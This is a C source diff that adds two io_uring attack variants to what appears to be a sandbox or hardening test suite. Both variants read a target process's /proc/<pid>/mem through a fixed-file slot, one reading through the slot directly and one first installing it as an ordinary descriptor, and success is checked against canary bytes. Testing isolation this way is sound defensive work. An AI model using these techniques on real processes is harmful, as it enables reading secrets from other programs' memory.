@@ -19,6 +19,9 @@ struct ring {
 	struct io_uring_params params;
 };
 
+/* linux/io_uring.h of Linux 6.8 */
+#define OP_FIXED_FD_INSTALL 54
+
 static char buffer[PAGE_BYTES];
 
 static int set_up(struct ring *ring)
@@ -90,6 +93,55 @@ static long read_by_ring(const struct prey *prey, const char *name, unsigned lon
 	return length < 0 ? (errno == EIO ? 0 : -1) : canary_bytes(buffer, length);
 }
 
+/* Opens it into the first slot of the ring's own table, where it has no descriptor. */
+static int open_into_slot(struct ring *ring, const struct prey *prey)
+{
+	struct io_uring_sqe entry = { .opcode = IORING_OP_OPENAT, .fd = AT_FDCWD, .file_index = 1 };
+	int none = -1;
+	char path[64];
+
+	snprintf(path, sizeof(path), "/proc/%d/mem", prey->pid);
+	entry.addr = (unsigned long)path;
+	if (set_up(ring) || syscall(SYS_io_uring_register, ring->fd, IORING_REGISTER_FILES, &none, 1))
+		return -1;
+	return have_done(ring, &entry);
+}
+
+static long answer_of(const struct ring *ring, long length)
+{
+	close_again(ring->fd);
+	return length < 0 ? (errno == EIO ? 0 : -1) : canary_bytes(buffer, length);
+}
+
+static long memory_by_slot(const struct prey *prey)
+{
+	struct io_uring_sqe entry = {
+		.opcode = IORING_OP_READ,
+		.flags = IOSQE_FIXED_FILE,
+		.addr = (unsigned long)buffer,
+		.len = sizeof(buffer),
+		.off = prey->address,
+	};
+	struct ring ring;
+
+	if (open_into_slot(&ring, prey) < 0)
+		return -1;
+	return answer_of(&ring, have_done(&ring, &entry));
+}
+
+/* And from there to where it is a descriptor. */
+static long memory_by_installed_slot(const struct prey *prey)
+{
+	struct io_uring_sqe entry = { .opcode = OP_FIXED_FD_INSTALL, .flags = IOSQE_FIXED_FILE };
+	struct ring ring;
+	int fd;
+
+	if (open_into_slot(&ring, prey) < 0)
+		return -1;
+	fd = have_done(&ring, &entry);
+	return fd < 0 ? -1 : answer_of(&ring, pread(fd, buffer, sizeof(buffer), prey->address));
+}
+
 static long memory(const struct prey *prey)
 {
 	return read_by_ring(prey, "mem", prey->address);
@@ -102,6 +154,8 @@ static long environment(const struct prey *prey)
 
 const struct attack ring_attacks[] = {
 	{ "io-uring-mem", NULL, memory },
+	{ "io-uring-mem-slot", NULL, memory_by_slot },
+	{ "io-uring-mem-installed", NULL, memory_by_installed_slot },
 	{ "io-uring-environ", NULL, environment },
 	{ 0 },
 };
